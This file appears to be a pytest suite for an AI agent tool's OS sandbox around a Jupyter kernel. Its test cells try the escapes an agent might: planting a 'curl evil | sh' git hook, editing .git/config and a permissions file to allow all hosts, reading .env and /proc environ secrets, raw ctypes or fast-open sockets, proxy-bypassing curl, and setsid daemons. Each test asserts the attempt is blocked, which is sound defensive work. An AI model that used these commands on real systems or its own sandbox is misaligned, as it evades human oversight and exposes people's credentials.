@@ -1,0 +1,492 @@
+"""The OS sandbox, tried the way an agent would: a shell line, ctypes, a subprocess, Python's own
+bypasses. Every outcome is judged from outside the kernel: the file on disk, the server's count,
+the process table. Loopback only.
+
+The same cases run in the fallback mode (``IVRALO_TEST_SANDBOX=off``, see ``sandbox_mode``), where
+each test asserts exactly what that mode stops, and again as an unprivileged user
+(``test_sandbox_as_nobody.py``).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import signal
+import socket
+import subprocess
+import threading
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+
+import psutil
+import pytest
+from conftest import PYTHON, SANDBOXED_KERNEL, gone, wait_until
+from jupyter_client.blocking.client import BlockingKernelClient
+from jupyter_client.manager import KernelManager
+from kernel_helpers import execute
+
+SECRET = "sk-live-4f9d2c1b8a7e"  # a made-up credential: it must never be readable from the kernel
+
+
+@pytest.fixture
+def km(workspace: Path) -> Iterator[KernelManager]:
+    manager = KernelManager(kernel_name=SANDBOXED_KERNEL)
+    manager.start_kernel(cwd=str(workspace))
+    yield manager
+    if manager.has_kernel:
+        manager.shutdown_kernel(now=True)
+
+
+@pytest.fixture
+def sandboxed(kc: BlockingKernelClient, km: KernelManager) -> BlockingKernelClient:
+    layers = kc.kernel_info(reply=True, timeout=30)["content"]["ivralo"]["layers"]
+    assert layers["sandbox"].startswith("bwrap"), f"the kernel is not in the sandbox: {layers['sandbox']}"
+    return kc
+
+
+def sh(kc: BlockingKernelClient, script: str) -> str:
+    """Run ``sh -c script`` from the cell, as an agent's first try would; returns what it printed."""
+    code = f"import subprocess\nr = subprocess.run(['sh', '-c', {script!r}], capture_output=True, text=True)\n"
+    code += "print(r.stdout + r.stderr)"
+    done = execute(kc, code, timeout=60)
+    assert done.status == "ok", done.outputs
+    return done.stdout
+
+
+class Counter:
+    """Connections or datagrams that reached loopback servers, counted where they land. ``close``
+    also counts what is still queued, so a hit that came just before the count is not missed."""
+
+    def __init__(self) -> None:
+        self.hits = 0
+        self._closing = threading.Event()
+        self._threads: list[threading.Thread] = []
+
+    def serve(self, listener: socket.socket, datagram: bool = False) -> None:
+        listener.settimeout(0.05)
+
+        def take() -> None:
+            if datagram:
+                listener.recvfrom(65536)
+            else:
+                listener.accept()[0].close()
+            self.hits += 1
+
+        def loop() -> None:
+            while not self._closing.is_set():
+                with contextlib.suppress(TimeoutError, OSError):
+                    take()
+            listener.setblocking(False)
+            with contextlib.suppress(OSError):
+                while True:
+                    take()
+
+        thread = threading.Thread(target=loop, daemon=True)
+        thread.start()
+        self._threads.append(thread)
+
+    def close(self) -> None:
+        self._closing.set()
+        for thread in self._threads:
+            thread.join(timeout=10)
+
+
+@contextlib.contextmanager
+def tcp_and_udp() -> Iterator[tuple[int, int, Counter, Counter]]:
+    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    tcp.setsockopt(socket.IPPROTO_TCP, 23, 16)  # TCP_FASTOPEN: a SYN with data counts as a hit too
+    tcp.bind(("127.0.0.1", 0))
+    tcp.listen(16)
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.1", 0))
+    tcp_count, udp_count = Counter(), Counter()
+    tcp_count.serve(tcp)
+    udp_count.serve(udp, datagram=True)
+    try:
+        yield tcp.getsockname()[1], udp.getsockname()[1], tcp_count, udp_count
+    finally:
+        tcp_count.close()
+        udp_count.close()
+        tcp.close()
+        udp.close()
+
+
+def test_the_kernel_lives_in_namespaces_of_its_own(sandboxed: BlockingKernelClient, km: KernelManager) -> None:
+    provisioner = km.provisioner
+    kernel = provisioner.host_pid(int(sandboxed.kernel_info(reply=True)["content"]["ivralo"]["pid"]))
+    for ns in ("net", "pid", "mnt", "ipc", "uts"):
+        assert os.readlink(f"/proc/{kernel}/ns/{ns}") != os.readlink(f"/proc/self/ns/{ns}"), ns
+    assert km.transport == "ipc", "the kernel's channels are unix sockets in its own runtime folder"
+
+
+@pytest.fixture
+def repo_workspace(workspace: Path) -> Path:
+    """A workspace that is a git repository with an .ivralo folder and a databases.json, made before
+    the kernel starts (closed paths are the ones that exist at start)."""
+    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
+    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
+    (workspace / ".ivralo").mkdir(exist_ok=True)
+    (workspace / "databases.json").write_text("{}\n")
+    (workspace / ".vscode").mkdir()
+    (workspace / ".vscode" / "tasks.json").write_text("{}\n")
+    return workspace
+
+
+@pytest.fixture
+def repo_kc(repo_workspace: Path) -> Iterator[BlockingKernelClient]:
+    manager = KernelManager(kernel_name=SANDBOXED_KERNEL)
+    manager.start_kernel(cwd=str(repo_workspace))
+    client = manager.client()
+    client.start_channels()
+    try:
+        client.wait_for_ready(timeout=60)
+        yield client
+    finally:
+        client.stop_channels()
+        manager.shutdown_kernel(now=True)
+
+
+def test_closed_paths_stay_closed_to_a_shell_and_to_dir_fd(repo_kc: BlockingKernelClient, repo_workspace: Path) -> None:
+    ws = repo_workspace
+    before = {p: p.read_bytes() for p in (ws / ".git" / "config", ws / "databases.json", ws / ".vscode" / "tasks.json")}
+    said = sh(
+        repo_kc,
+        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
+        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config;"
+        'echo \'{"hosts": {"allow": ["*"]}}\' > .ivralo/permissions.json;'
+        "echo '{\"evil\": 1}' > databases.json; echo '{}' > .vscode/tasks.json; rm -rf .git; mv .ivralo .x",
+    )
+    # Python's known way around the audit hook: a path relative to a directory descriptor.
+    done = execute(
+        repo_kc,
+        "import os\nfd = os.open('.git', os.O_RDONLY)\n"
+        "try:\n    w = os.open('config', os.O_WRONLY | os.O_APPEND, dir_fd=fd); os.write(w, b'evil'); print('wrote')\n"
+        "except OSError as e:\n    print(type(e).__name__, e.errno)",
+    )
+    assert not (ws / ".git" / "hooks" / "pre-commit").exists(), said
+    assert not (ws / ".ivralo" / "permissions.json").exists(), said
+    assert not (ws / ".x").exists()
+    for path, content in before.items():
+        assert path.read_bytes() == content, f"{path} changed: {said}"
+    assert "wrote" not in done.stdout, done.stdout
+    assert (ws / "ok.txt").exists() is False
+    assert sh(repo_kc, "echo fine > ok.txt && cat ok.txt").strip() == "fine"
+    assert (ws / "ok.txt").read_text() == "fine\n", "the rest of the workspace stays writable"
+
+
+def test_a_linked_worktree_keeps_its_git_folders_closed(workspace: Path, tmp_path: Path) -> None:
+    main = tmp_path / "main-repo"
+    subprocess.run(["git", "init", "-q", str(main)], check=True)
+    env = dict(
+        os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@t", GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@t"
+    )
+    subprocess.run(["git", "-C", str(main), "commit", "-q", "--allow-empty", "-m", "init"], check=True, env=env)
+    worktree = workspace / "wt"
+    subprocess.run(["git", "-C", str(main), "worktree", "add", "-q", str(worktree)], check=True)
+    config = (main / ".git" / "config").read_bytes()
+    manager = KernelManager(kernel_name=SANDBOXED_KERNEL)
+    manager.start_kernel(cwd=str(worktree))
+    client = manager.client()
+    client.start_channels()
+    try:
+        client.wait_for_ready(timeout=60)
+        said = sh(
+            client,
+            'echo evil > "$(git rev-parse --git-common-dir)/hooks/post-checkout";'
+            'echo evil >> "$(git rev-parse --git-common-dir)/config";'
+            'echo evil > "$(git rev-parse --git-dir)/commondir"',
+        )
+    finally:
+        client.stop_channels()
+        manager.shutdown_kernel(now=True)
+    assert not (main / ".git" / "hooks" / "post-checkout").exists(), said
+    assert (main / ".git" / "config").read_bytes() == config, said
+    assert (main / ".git" / "worktrees" / "wt" / "commondir").read_text().strip() == "../..", said
+
+
+def test_dotenv_files_read_empty(workspace: Path) -> None:
+    (workspace / ".env").write_text(f"ACME_API_KEY={SECRET}\n")
+    (workspace / "sub").mkdir()
+    (workspace / "sub" / ".env").write_text(f"OTHER={SECRET}\n")
+    manager = KernelManager(kernel_name=SANDBOXED_KERNEL)
+    manager.start_kernel(cwd=str(workspace))
+    client = manager.client()
+    client.start_channels()
+    try:
+        client.wait_for_ready(timeout=60)
+        sh(client, "cat .env sub/.env > leaked.txt 2>&1; python3 -I -c 'print(open(\".env\").read())' >> leaked.txt")
+    finally:
+        client.stop_channels()
+        manager.shutdown_kernel(now=True)
+    assert SECRET not in (workspace / "leaked.txt").read_text()
+    assert SECRET in (workspace / ".env").read_text(), "the file itself is untouched"
+
+
+def test_the_hosts_process_environments_are_out_of_reach(sandboxed: BlockingKernelClient, workspace: Path) -> None:
+    holder = subprocess.Popen(["sleep", "300"], env=dict(os.environ, ACME_API_KEY=SECRET))
+    try:
+        sh(
+            sandboxed,
+            f"cat /proc/{holder.pid}/environ > leaked.txt 2>&1; cat /proc/{os.getpid()}/environ >> leaked.txt 2>&1;"
+            "for f in /proc/*/environ; do cat $f; done >> leaked.txt 2>/dev/null; true",
+        )
+    finally:
+        holder.kill()
+        holder.wait()
+    assert SECRET not in (workspace / "leaked.txt").read_text(errors="replace")
+
+
+@contextlib.contextmanager
+def unix_servers(tmp_path: Path) -> Iterator[tuple[list[str], Counter]]:
+    """Unix socket servers where the person's tools keep theirs: /tmp, /run/user/<uid>, abstract."""
+    counter = Counter()
+    made: list[Path] = []
+    run_user = Path(f"/run/user/{os.getuid()}")
+    if not run_user.exists():
+        run_user.mkdir(parents=True)
+        made.append(run_user)
+    addresses = [
+        f"/tmp/ivralo-test-{uuid.uuid4().hex[:8]}.sock",
+        str(run_user / f"ivralo-test-{uuid.uuid4().hex[:8]}.sock"),
+        f"\0ivralo-test-{uuid.uuid4().hex[:8]}",
+    ]
+    listeners = []
+    for address in addresses:
+        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        listener.bind(address)
+        listener.listen(8)
+        counter.serve(listener)
+        listeners.append(listener)
+    try:
+        yield addresses, counter
+    finally:
+        counter.close()
+        for listener, address in zip(listeners, addresses, strict=True):
+            listener.close()
+            if not address.startswith("\0"):
+                Path(address).unlink(missing_ok=True)
+        for path in made:
+            path.rmdir()
+
+
+def test_no_unix_socket_of_the_machine_is_reachable(sandboxed: BlockingKernelClient, tmp_path: Path) -> None:
+    with unix_servers(tmp_path) as (addresses, counter):
+        probe = (
+            "import socket, sys\n"
+            "for a in sys.argv[1:]:\n"
+            "    s = socket.socket(socket.AF_UNIX)\n"
+            "    try:\n        s.connect(a.replace('@', chr(0), 1)); print('connected', repr(a))\n"
+            "    except OSError as e:\n        print('refused', repr(a), e.errno)\n"
+        )
+        args = " ".join(repr(a.replace("\0", "@")) for a in addresses)
+        said = sh(sandboxed, f"python3 -I -c {probe!r} {args}")
+        done = execute(sandboxed, probe.replace("sys.argv[1:]", repr([a.replace("\0", "@") for a in addresses])))
+    assert counter.hits == 0, f"{said}\n{done.stdout}"
+
+
+def test_direct_network_routes_are_closed(sandboxed: BlockingKernelClient) -> None:
+    with tcp_and_udp() as (tcp_port, udp_port, tcp_hits, udp_hits):
+        code = f"""
+import ctypes, socket, subprocess
+tries = []
+def attempt(name, fn):
+    try:
+        fn(); tries.append(name + ' done')
+    except BaseException as e:
+        tries.append(f'{{name}} {{type(e).__name__}}')
+def fastopen():
+    s = socket.socket(); s.sendmsg([b'GET / HTTP/1.0\\r\\n\\r\\n'], [], 0x20000000, ('127.0.0.1', {tcp_port}))
+def udp():
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('127.0.0.1', {udp_port}))
+def raw_connect():
+    libc = ctypes.CDLL(None, use_errno=True)
+    fd = libc.socket(2, 1, 0)
+    addr = (ctypes.c_ubyte * 16)(2, 0, {tcp_port >> 8}, {tcp_port & 255}, 127, 0, 0, 1)
+    if libc.connect(fd, addr, 16) != 0:
+        raise OSError(ctypes.get_errno(), 'connect')
+attempt('fastopen', fastopen)
+attempt('udp', udp)
+attempt('ctypes', raw_connect)
+url = 'http://127.0.0.1:{tcp_port}/'
+r = subprocess.run(['curl', '-sS', '--max-time', '5', '--noproxy', '*', url], capture_output=True, text=True)
+tries.append(f'curl direct {{r.returncode}} {{r.stderr.strip()}}')
+r = subprocess.run(['curl', '-sS', '--max-time', '5', 'http://127.0.0.1:{tcp_port}/'], capture_output=True, text=True)
+tries.append(f'curl via proxy {{r.returncode}} {{r.stdout.strip()[:200]}}')
+child = "import socket; socket.create_connection(('127.0.0.1', {tcp_port}), timeout=5)"
+r = subprocess.run(['python3', '-I', '-c', child], capture_output=True, text=True)
+tries.append(f'python -I {{r.returncode}}')
+print('\\n'.join(tries))
+"""
+        done = execute(sandboxed, code, timeout=90, allow_stdin=False)  # nobody to ask
+    assert tcp_hits.hits == 0 and udp_hits.hits == 0, done.stdout
+    assert "curl via proxy 0 ivralo refused 127.0.0.1" in done.stdout, done.stdout
+
+
+def test_a_setsid_child_ends_with_a_killed_supervisor(sandboxed: BlockingKernelClient, km: KernelManager) -> None:
+    done = execute(sandboxed, "import subprocess\nd = subprocess.Popen(['setsid', 'sleep', '300'])\nprint('ok')")
+    assert done.stdout == "ok\n"
+    root = km.provisioner.process.pid
+
+    def daemons() -> list[int]:
+        found = []
+        for proc in psutil.Process(root).children(recursive=True):
+            with contextlib.suppress(psutil.Error):
+                if proc.cmdline() == ["sleep", "300"]:
+                    found.append(proc.pid)
+        return found
+
+    wait_until(lambda: bool(daemons()), 10, "the setsid child to appear")
+    daemon = daemons()[0]
+    supervisor = km.provisioner.supervisor_pid()
+    assert supervisor is not None
+    os.kill(supervisor, signal.SIGKILL)
+    wait_until(lambda: gone(daemon), 1.0, "the setsid child to be gone after the supervisor's SIGKILL")
+
+
+def test_no_signal_reaches_outside_and_no_metadata_changes(sandboxed: BlockingKernelClient, tmp_path: Path) -> None:
+    outside = Path.home() / ".cache" / "ivralo-tests" / uuid.uuid4().hex
+    outside.mkdir(parents=True)
+    target = outside / "file.txt"
+    target.write_text("x")
+    os.chmod(target, 0o644)
+    os.utime(target, (1_000_000_000, 1_000_000_000))
+    hidden = tmp_path / "outside.txt"  # under /tmp: not even visible inside
+    hidden.write_text("x")
+    os.utime(hidden, (1_000_000_000, 1_000_000_000))
+    victim = subprocess.Popen(["sleep", "300"])
+    try:
+        for path in (target, hidden):
+            sh(sandboxed, f"chmod 777 {path}; touch {path}; chown 65534 {path}; kill -TERM {victim.pid}")
+            execute(
+                sandboxed,
+                f"import os\nfor f in (lambda: os.chmod({str(path)!r}, 0o777), lambda: os.utime({str(path)!r}), "
+                f"lambda: os.kill({victim.pid}, 15)):\n    try: f()\n    except OSError: pass",
+            )
+        assert victim.poll() is None, "a process outside the sandbox was signalled"
+        for path in (target, hidden):
+            st = path.stat()
+            assert (st.st_mode & 0o777, st.st_mtime, st.st_uid) == (0o644, 1_000_000_000, os.getuid()), path
+    finally:
+        victim.kill()
+        victim.wait()
+        target.unlink()
+        outside.rmdir()
+
+
+async def test_a_start_that_must_have_the_sandbox_says_so(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """``sandbox='required'`` where no bwrap can be found refuses to start, saying why."""
+    from ivralo_kernel.host import sandbox as sandbox_module
+    from ivralo_kernel.host.manager import IvraloKernelManager
+
+    monkeypatch.setattr(sandbox_module, "find_bwrap", lambda: None)  # a machine without bubblewrap
+    manager = IvraloKernelManager.for_settings(python=PYTHON, sandbox="required")
+    with pytest.raises(RuntimeError, match=r"must run in an OS sandbox \(sandbox='required'\), but bubblewrap"):
+        await manager.start_kernel(cwd=str(workspace))
+    assert not manager.has_kernel
+
+
+@contextlib.contextmanager
+def counting_http() -> Iterator[tuple[int, list[str]]]:
+    """An HTTP server on 127.0.0.1 (the person's machine, seen from the sandbox through the proxy)
+    that records each request path it answers."""
+    import http.server
+
+    hits: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            hits.append(self.path)
+            body = b"hello from the host"
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield int(httpd.server_address[1]), hits
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+        thread.join(timeout=5)
+
+
+def fetch_in_python(port: int, path: str) -> str:
+    url = f"http://localhost:{port}{path}"
+    return f"import urllib.request\nprint(urllib.request.urlopen({url!r}, timeout=30).read().decode())"
+
+
+def fetch_in_subprocess(port: int, path: str) -> str:
+    child = f"import urllib.request; print(urllib.request.urlopen('http://localhost:{port}{path}', timeout=30).status)"
+    return (
+        "import subprocess\n"
+        f"r = subprocess.run(['python3', '-I', '-c', {child!r}], capture_output=True, text=True)\n"
+        "print(r.stdout.strip() or r.stderr.strip().splitlines()[-1])"
+    )
+
+
+@pytest.mark.parametrize("answer", ["yes", "no"])
+async def test_a_person_s_answer_through_session_counts_at_once(workspace: Path, answer: str) -> None:
+    """No host allowed before the start, a random port: "yes" reaches the server from the kernel's
+    Python and from a subprocess of the cell, with no restart; "no" reaches nothing."""
+    from ivralo_kernel.host import Session, WorkerConfig
+
+    asked: list[str] = []
+
+    async def ask(question: str, choices: tuple[str, ...]) -> str:
+        asked.append(question)
+        return answer
+
+    with counting_http() as (port, hits):
+        config = WorkerConfig(sandbox="required")
+        async with Session(workspace=workspace, ask=ask, config=config) as session:
+            first = await session.run(fetch_in_python(port, "/from-python"))
+            second = await session.run(fetch_in_subprocess(port, "/from-subprocess"))
+    if answer == "yes":
+        assert hits == ["/from-python", "/from-subprocess"], (first, second)
+        assert isinstance(first, str) and first.startswith("hello from the host"), first
+        assert "[ivralo network: localhost allowed (yes this time)]" in first
+        assert isinstance(second, str) and second.startswith("200"), second
+        assert asked == ["Code in run_python wants to reach localhost"], "asked once for the worker's life"
+    else:
+        assert hits == [], (first, second)
+        assert isinstance(first, dict) and "403" in first["error"] and "the person said no" in first["error"]
+        assert "403" in str(second) and "Forbidden by ivralo" in str(second)
+
+
+@pytest.mark.parametrize("answer", ["yes", "no"])
+def test_jupyter_console_asks_for_a_subprocess_too(workspace: Path, answer: str) -> None:
+    """In ``jupyter console``, curl in a cell is asked about at the console's prompt."""
+    import sys
+
+    import pexpect
+
+    with counting_http() as (port, hits):
+        child = pexpect.spawn(
+            str(Path(sys.executable).parent / "jupyter"),
+            ["console", "--kernel", SANDBOXED_KERNEL, "--simple-prompt"],
+            cwd=str(workspace),
+            env=dict(os.environ, TERM="dumb"),
+            encoding="utf-8",
+            timeout=60,
+        )
+        try:
+            child.expect(r"In \[1\]: ")
+            child.sendline(f"!curl -sS http://localhost:{port}/from-curl")
+            child.expect(rf"Code in this cell wants to reach localhost \(port {port}\)\. Allow\? \[yes/no\] ")
+            child.sendline(answer)
+            child.expect("hello from the host" if answer == "yes" else "the person said no")
+            child.expect(r"In \[2\]: ")
+            child.sendline("exit")
+            child.expect(pexpect.EOF)
+        except pexpect.TIMEOUT:
+            raise AssertionError(f"jupyter console did not get there; the screen so far: {child.before!r}") from None
+        finally:
+            child.close(force=True)
+    assert hits == (["/from-curl"] if answer == "yes" else [])
